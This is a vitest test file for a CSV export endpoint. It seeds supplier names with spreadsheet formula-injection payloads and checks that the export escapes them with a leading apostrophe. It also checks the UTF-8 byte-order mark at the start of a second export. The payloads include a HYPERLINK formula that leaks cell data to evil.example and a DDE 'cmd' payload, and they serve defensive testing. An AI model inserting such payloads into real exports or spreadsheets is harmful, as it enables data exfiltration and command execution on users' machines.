import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { council } from '../harness/council.ts';
import { serve } from '../harness/serve.ts';

const attacks = [
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  '+44 20 7946 0000',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1',
  '  =1',
  '＝1',
  '|calc',
  'two\r\nlines, "quoted"; and more',
  'reversed \u202etxt.exe',
];

test('no cell of an export is run by a spreadsheet, and none breaks out of its place', async () => {
  const demo = await council();
  const served = await serve(demo.database);
  const { rows } = await demo.owner.query('select id from supplier order by id limit $1', [
    attacks.length,
  ]);
  for (const [i, { id }] of rows.entries())
    await demo.owner.query('update supplier set name = $2 where id = $1', [id, attacks[i]]);
  const { cookie } = await served.signIn('procurementOfficer');
  const filter = JSON.stringify({ id: { in: rows.map(({ id }) => id) } });
  const query = new URLSearchParams({ columns: 'id,name', filter, orderBy: '[{"id":"asc"}]' });
  const { text } = await served.send({ headers: { cookie } }, `/export/suppliers.csv?${query}`);
  const cells = (parse(text, { from: 2 }) as string[][]).map(([, name]) => name);
  expect(cells).toMatchInlineSnapshot(`
    [
      "'=HYPERLINK("https://evil.example?"&A1,"Open")",
      "'+44 20 7946 0000",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1)",
      "'	=1",
      "'  =1",
      "'＝1",
      "'|calc",
      "two
    lines, "quoted"; and more",
      "reversed txt.exe",
    ]
  `);
  await served.close();
  await demo.drop();
});

test('a file begins as spreadsheets want UTF-8 to begin', async () => {
  const demo = await council();
  const served = await serve(demo.database);
  const { cookie } = await served.signIn('hrAdministrator');
  const response = await fetch(`${served.url}/export/grades.csv?columns=code`, {
    headers: { cookie },
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(bytes.subarray(0, 9).toString('hex')).toBe('efbbbf436f64650d0a');
  await served.close();
  await demo.drop();
});
